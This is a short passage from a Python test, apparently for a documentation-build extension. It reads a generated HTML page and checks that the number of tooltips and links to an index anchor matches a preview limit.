    page = (app.outdir / "other.html").read_text(encoding="utf-8")
    assert page.count('role="tooltip"') == MAX_PREVIEWS
    assert page.count('href="index.html#sample-p1"') == MAX_PREVIEWS + 20
